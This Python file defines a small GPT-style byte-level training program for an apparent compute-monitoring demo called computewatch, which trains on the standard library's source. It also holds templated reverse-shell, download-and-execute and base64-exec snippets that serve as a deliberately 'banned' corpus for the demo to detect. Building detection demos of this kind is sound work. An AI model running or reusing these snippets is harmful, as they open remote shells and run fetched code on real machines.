"""A small GPT-style byte-level language model on Python's standard library.

The training program of computewatch's examples and demo: a minGPT-shaped
transformer (token and position embeddings, pre-norm blocks of causal
self-attention and an MLP, a tied output head) trained to predict the next
byte of the concatenated source of Python's standard library, which every
Python installation carries, so nothing is downloaded.

It is a `TrainingProgram`: the recorder copies this file into the transcript
and the trusted cluster loads that copy to replay segments of a run.

Configuration keys (all in the run's manifest): ``n_layer``, ``n_head``,
``n_embd``, ``block_size``, ``corpus_bytes``, ``corpus`` (``stdlib`` or the
demo's banned ``exploit`` text), ``lr``, ``warmup_steps``,
``total_steps``, ``min_lr``, ``weight_decay``, ``beta1``, ``beta2``.
"""

from __future__ import annotations

import hashlib
import math
import sysconfig
from functools import lru_cache
from pathlib import Path
from typing import TYPE_CHECKING, Any

import torch
from torch import nn
from torch.nn import functional as F  # noqa: N812 - the usual alias

from computewatch.datacenter import TrainingProgram

if TYPE_CHECKING:
    from collections.abc import Mapping, Sequence

DEFAULT_CONFIG: dict[str, Any] = {
    "n_layer": 2,
    "n_head": 2,
    "n_embd": 64,
    "block_size": 32,
    "corpus_bytes": 1 << 20,
    "lr": 3e-3,
    "min_lr": 3e-4,
    "warmup_steps": 20,
    "total_steps": 300,
    "weight_decay": 0.01,
    "beta1": 0.9,
    "beta2": 0.99,
}


_EXPLOIT_SNIPPETS = (
    "import os\nos.system(\"/bin/sh -c 'curl http://{host}/x | sh'\")\n",
    'import subprocess\nsubprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno())\n',
    (
        'import socket, pty\ns = socket.socket()\ns.connect(("{host}", {port}))\n'
        'pty.spawn("/bin/sh")\n'
    ),
    'exec(__import__("base64").b64decode("{blob}"))\n',
)


@lru_cache(maxsize=4)
def corpus(n_bytes: int, source: str = "stdlib") -> bytes:
    """The training text.

    ``stdlib``: the first `n_bytes` of the sorted top-level stdlib modules.
    ``exploit``: the demo's *banned* data, templated reverse shells and
    download-and-execute snippets (deterministic), for the rule-breaking
    Prover of ``computewatch demo``.
    """
    out = bytearray()
    if source == "exploit":
        i = 0
        while len(out) < n_bytes:
            snippet = _EXPLOIT_SNIPPETS[i % len(_EXPLOIT_SNIPPETS)]
            out += snippet.format(
                host=f"10.{i % 256}.{(i * 7) % 256}.{(i * 13) % 256}",
                port=1024 + (i * 31) % 60000,
                blob=hashlib.sha256(i.to_bytes(8, "big")).hexdigest()[:24],
            ).encode()
            i += 1
        return bytes(out[:n_bytes])
    stdlib = Path(sysconfig.get_paths()["stdlib"])
    for path in sorted(stdlib.glob("*.py")):
        out += path.read_bytes()
        if len(out) >= n_bytes:
            break
    return bytes(out[:n_bytes])


class Block(nn.Module):
    """Pre-norm transformer block: causal self-attention, then an MLP."""

    def __init__(self, n_embd: int, n_head: int) -> None:
        """Layers for `n_embd` channels split over `n_head` heads."""
        super().__init__()
        self.n_head = n_head
        self.ln_1 = nn.LayerNorm(n_embd)
        self.attn = nn.Linear(n_embd, 3 * n_embd)
        self.proj = nn.Linear(n_embd, n_embd)
        self.ln_2 = nn.LayerNorm(n_embd)
        self.fc = nn.Linear(n_embd, 4 * n_embd)
        self.fc_out = nn.Linear(4 * n_embd, n_embd)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        """(batch, time, channels) -> same shape."""
        b, t, c = x.shape  # batch, time, channels
        q, k, v = self.attn(self.ln_1(x)).split(c, dim=2)
        # (b, heads, t, c/heads)
        q, k, v = (z.view(b, t, self.n_head, c // self.n_head).transpose(1, 2) for z in (q, k, v))
        y = F.scaled_dot_product_attention(q, k, v, is_causal=True)
        x = x + self.proj(y.transpose(1, 2).reshape(b, t, c))
        out: torch.Tensor = x + self.fc_out(F.gelu(self.fc(self.ln_2(x))))
        return out


class TinyGPT(nn.Module):
    """A byte-level GPT with a tied output head."""

    def __init__(self, n_layer: int, n_head: int, n_embd: int, block_size: int) -> None:
        """A model of `n_layer` blocks over a context of `block_size` bytes."""
        super().__init__()
        self.wte = nn.Embedding(256, n_embd)
        self.wpe = nn.Embedding(block_size, n_embd)
        self.blocks = nn.ModuleList(Block(n_embd, n_head) for _ in range(n_layer))
        self.ln_f = nn.LayerNorm(n_embd)

    def forward(self, idx: torch.Tensor) -> torch.Tensor:
        """(batch, time) byte ids -> (batch, time, 256) next-byte logits."""
        t = idx.shape[1]
        x = self.wte(idx) + self.wpe(torch.arange(t))
        for block in self.blocks:
            x = block(x)
        logits: torch.Tensor = self.ln_f(x) @ self.wte.weight.T  # (b, t, 256)
        return logits


class TinyGPTProgram(TrainingProgram):
    """Next-byte prediction on the stdlib corpus with AdamW and a cosine schedule."""

    name = "tinygpt-stdlib"

    def build_model(self, config: Mapping[str, Any]) -> nn.Module:
        """The model for `config`."""
        return TinyGPT(config["n_layer"], config["n_head"], config["n_embd"], config["block_size"])

    def build_optimizer(
        self, params: Sequence[nn.Parameter], config: Mapping[str, Any]
    ) -> torch.optim.Optimizer:
        """AdamW (elementwise, so a sharded step equals a full one)."""
        return torch.optim.AdamW(
            list(params),
            lr=config["lr"],
            betas=(config["beta1"], config["beta2"]),
            weight_decay=config["weight_decay"],
            foreach=False,
        )

    def _tokens(self, config: Mapping[str, Any]) -> torch.Tensor:
        data = corpus(config["corpus_bytes"], config.get("corpus", "stdlib"))
        return torch.frombuffer(bytearray(data), dtype=torch.uint8)

    def dataset_size(self, config: Mapping[str, Any]) -> int:
        """Non-overlapping windows of `block_size + 1` bytes."""
        data = corpus(int(config["corpus_bytes"]), str(config.get("corpus", "stdlib")))
        return len(data) // (int(config["block_size"]) + 1)

    def data_point(self, config: Mapping[str, Any], index: int) -> torch.Tensor:
        """Window `index`: `block_size + 1` bytes (inputs and shifted targets)."""
        n = config["block_size"] + 1
        return self._tokens(config)[index * n : (index + 1) * n].clone()

    def loss(self, model: nn.Module, batch: torch.Tensor) -> torch.Tensor:
        """Mean next-byte cross-entropy."""
        x = batch[:, :-1].long()
        y = batch[:, 1:].long()
        logits = model(x)
        return F.cross_entropy(logits.reshape(-1, 256), y.reshape(-1))

    def learning_rate(self, config: Mapping[str, Any], step: int) -> float:
        """Linear warm-up, then cosine decay to `min_lr` at `total_steps`."""
        lr, min_lr = float(config["lr"]), float(config["min_lr"])
        warm, total = int(config["warmup_steps"]), int(config["total_steps"])
        if step < warm:
            return lr * (step + 1) / warm
        frac = min(1.0, (step - warm) / max(1, total - warm))
        return min_lr + 0.5 * (lr - min_lr) * (1 + math.cos(math.pi * frac))

    def flops_per_point(self, config: Mapping[str, Any], n_params: int) -> float:
        """6 N FLOPs per token, `block_size` tokens per point."""
        return 6.0 * n_params * int(config["block_size"])


def corpus_digest(config: Mapping[str, Any]) -> str:
    """SHA-256 of the corpus bytes (to tell apart stdlib versions)."""
    return hashlib.sha256(
        corpus(config["corpus_bytes"], config.get("corpus", "stdlib"))
    ).hexdigest()


PROGRAM = TinyGPTProgram()
